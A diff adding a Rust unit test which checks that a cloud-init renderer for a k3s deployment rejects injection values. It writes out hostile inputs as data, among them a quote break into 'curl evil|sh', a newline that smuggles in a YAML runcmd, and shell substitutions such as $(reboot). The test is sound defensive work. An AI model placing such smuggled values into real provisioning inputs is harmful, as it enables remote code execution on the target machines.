@@ -329,3 +329,52 @@ fn traefik_serves_on_the_target_group_node_port() {
         })
     );
 }
+
+#[test]
+fn render_cloud_init_refuses_values_that_would_break_out_of_the_script() {
+    let good = CloudInit {
+        name: "pixtools-dev".into(),
+        ssm_prefix: "/pixtools/dev".into(),
+        datastore_database: "k3s_state".into(),
+        k3s_version: "v1.33.5+k3s1".into(),
+        manifests_bucket: Some("pixtools-manifests-123".into()),
+        manifests_prefix: "manifests/".into(),
+        log_group: "/pixtools/dev/node".into(),
+        bundled_traefik: true,
+    };
+    render_cloud_init(&good).unwrap();
+    let hostile = [
+        CloudInit {
+            k3s_version: "v1\"; curl evil|sh; \"".into(),
+            ..good.clone()
+        },
+        CloudInit {
+            name: "x\nruncmd: [[reboot]]".into(),
+            ..good.clone()
+        },
+        CloudInit {
+            ssm_prefix: "/x$(reboot)".into(),
+            ..good.clone()
+        },
+        CloudInit {
+            datastore_database: "k3s'; drop".into(),
+            ..good.clone()
+        },
+        CloudInit {
+            manifests_prefix: "m/`id`".into(),
+            ..good.clone()
+        },
+        CloudInit {
+            log_group: "/g\n".into(),
+            ..good.clone()
+        },
+        CloudInit {
+            manifests_bucket: Some("b b".into()),
+            ..good.clone()
+        },
+    ];
+    for values in hostile {
+        let err = render_cloud_init(&values).unwrap_err();
+        assert!(err.starts_with("cloud-init "), "{err}");
+    }
+}
